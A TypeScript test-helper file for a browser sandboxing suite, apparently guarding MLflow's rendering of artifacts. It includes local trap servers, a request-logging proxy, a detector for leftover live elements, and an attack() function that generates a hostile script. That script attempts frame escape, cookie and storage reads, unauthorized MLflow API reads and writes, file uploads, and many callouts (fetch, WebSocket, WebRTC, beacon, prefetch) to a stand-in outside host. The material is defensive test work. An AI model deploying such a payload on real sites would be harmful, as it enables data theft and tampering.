/** Documents that try to do harm, and traps that hear whatever comes out of them. */
import { createSocket } from "node:dgram";
import { createServer as createHttpServer, type IncomingHttpHeaders, request as httpRequest } from "node:http";
import { type AddressInfo, createServer } from "node:net";
import type { Page } from "playwright-core";
import { onTestFinished } from "vitest";

export interface Trap {
  /** `http://…`; whoever connects is heard, whether it asks anything or not. */
  readonly url: string;
  /** `stun:…`, which WebRTC asks. */
  readonly stun: string;
  readonly heard: string[];
}

/** A server elsewhere. What a browser reports as requests does not tell: it names those that a policy stopped, too. */
export async function trap(): Promise<Trap> {
  const heard: string[] = [];
  const tcp = createServer((socket) => {
    heard.push("connection");
    socket.on("data", (data) => {
      heard.push(data.toString("latin1").split("\r\n")[0]!);
      socket.end("HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\ncontent-length: 0\r\nconnection: close\r\n\r\n");
    });
    socket.on("error", () => socket.destroy()); // the browser went away
  });
  const udp = createSocket("udp4", () => heard.push("datagram"));
  await new Promise<void>((resolve) => tcp.listen(0, "127.0.0.1", resolve));
  await new Promise<void>((resolve) => udp.bind(0, "127.0.0.1", resolve));
  onTestFinished(() => {
    tcp.close();
    udp.close();
  });
  const { port } = tcp.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, stun: `stun:127.0.0.1:${udp.address().port}`, heard };
}

export interface Asked {
  readonly method: string;
  readonly path: string;
  readonly headers: IncomingHttpHeaders;
}

/** A server in front of another that notes what it is asked. */
export async function watched(server: { readonly url: string }): Promise<{ url: string; asked: Asked[] }> {
  const asked: Asked[] = [];
  const { hostname, port } = new URL(server.url);
  const front = createHttpServer((incoming, outgoing) => {
    const { method, url: path, headers } = incoming;
    asked.push({ method: method!, path: path!, headers });
    const behind = httpRequest({ hostname, port, method, path, headers }, (answer) => {
      outgoing.writeHead(answer.statusCode!, answer.headers);
      answer.pipe(outgoing);
    });
    behind.on("error", () => outgoing.destroy());
    incoming.pipe(behind);
  });
  await new Promise<void>((resolve) => front.listen(0, "127.0.0.1", resolve));
  onTestFinished(() => {
    front.close();
    front.closeAllConnections();
  });
  return { url: `http://127.0.0.1:${(front.address() as AddressInfo).port}`, asked };
}

/**
 * A script that tries whatever harms, then writes what it could do into its document ("Done: …", nothing where all failed) and tells
 * the page around it. `url`: the server that the document is from.
 */
export function attack(url: string, { url: elsewhere, stun }: Pick<Trap, "url" | "stun">): string {
  return `<script>
const loaded = (element, src) => new Promise((resolve, reject) => { element.onload = resolve; element.onerror = reject; element.src = src; document.documentElement.append(element) });
const link = (rel, href) => document.head.append(Object.assign(document.createElement("link"), { rel, href, as: "image" }));
const tries = {
  parent: () => { parent.document.title; parent.pwned = "script" },
  top: () => { top.location = "about:blank" },
  cookie: () => document.cookie,
  storage: () => localStorage.length,
  popup: () => { if (open("about:blank") === null) throw new Error("blocked") },
  read: () => fetch("${url}/api/2.0/mlflow/experiments/search?max_results=1").then((r) => r.text()),
  write: () => fetch("${url}/api/2.0/mlflow/experiments/create", { method: "POST", mode: "no-cors", body: '{"name":"evil"}' }),
  upload: () => fetch(location.href.replace(/artifacts.(frame|output)/, "artifacts/file"), { method: "PUT", body: "evil" }).then((r) => { if (!r.ok) throw new Error(r.status) }),
  picture: () => loaded(new Image(), "${url}/icon.svg"),
  form: () => { const f = document.createElement("form"); f.action = "${url}/health"; f.target = "within"; document.documentElement.append(f, Object.assign(document.createElement("iframe"), { name: "within" })); f.submit(); throw new Error("no one says whether it was sent") },
  worker: () => new Promise((resolve, reject) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = resolve; w.onerror = reject }),
  fetch: () => fetch("${elsewhere}/fetch", { mode: "no-cors" }),
  image: () => loaded(new Image(), "${elsewhere}/image"),
  script: () => loaded(document.createElement("script"), "${elsewhere}/script"),
  socket: () => new Promise((resolve, reject) => { const s = new WebSocket("${elsewhere.replace("http", "ws")}/socket"); s.onopen = resolve; s.onerror = reject }),
  webrtc: async () => {
    const c = new RTCPeerConnection({ iceServers: [{ urls: "${stun}" }] });
    c.createDataChannel("x");
    const asking = new Promise((resolve) => { c.onicecandidate = resolve });
    await c.setLocalDescription(await c.createOffer());
    await asking;
    throw new Error("only who is asked knows");
  },
};
(async () => {
  for (const rel of ["preconnect", "dns-prefetch", "preload", "prefetch", "stylesheet", "modulepreload", "icon"]) link(rel, "${elsewhere}/" + rel);
  document.documentElement.append(Object.assign(document.createElement("iframe"), { src: "${elsewhere}/inner" }));
  document.documentElement.append(Object.assign(document.createElement("iframe"), { srcdoc: "<script>new Image().src='${elsewhere}/srcdoc'<" + "/script>" }));
  try { navigator.sendBeacon("${elsewhere}/beacon") } catch { /* as it should be */ }
  const done = [];
  for (const [name, attempt] of Object.entries(tries)) {
    if (self === top && /parent|top/.test(name)) continue; // itself
    try { await attempt(); done.push(name) } catch { /* as it should be */ }
  }
  document.documentElement.append("Done: " + (done.join(", ") || "nothing") + ".");
  parent.postMessage({ done, height: 1e9, pwned: 1 }, "*");
})();
</script>`;
}

export interface Seen {
  readonly pwned: unknown;
  readonly polluted: unknown;
  /** Links that lead elsewhere than to pages and mail. */
  readonly links: readonly string[];
  /** What would run, or ask elsewhere, if the page's policy were not there: it must not be there at all. */
  readonly live: readonly string[];
  readonly title: string;
}

/** What hostile content left in a page, but for what is in its frames. */
export async function look(page: Page): Promise<Seen> {
  return await page.evaluate(() => ({
    pwned: (window as { pwned?: unknown }).pwned ?? null,
    polluted: ({} as { polluted?: unknown }).polluted ?? null,
    links: [...document.querySelectorAll("a[href]")]
      .map((link) => (link as HTMLAnchorElement).href)
      .filter((href) => !/^(https?|mailto):/.test(href)),
    live: [...document.querySelectorAll("*")]
      .filter(
        (element) =>
          element.getAttributeNames().some((name) => name.startsWith("on") || name === "srcdoc") ||
          element.matches(
            "script:not([src]), iframe:not([sandbox='allow-scripts']), object, embed, form, base, meta[http-equiv], [srcset], [poster], [background], audio, video, source, track",
          ) ||
          (element instanceof HTMLImageElement &&
            !/^(data:|blob:|$)/.test(element.src) &&
            !element.src.endsWith("/icon.svg")),
      )
      .map((element) => element.outerHTML.slice(0, 100)),
    title: window.origin,
  }));
}
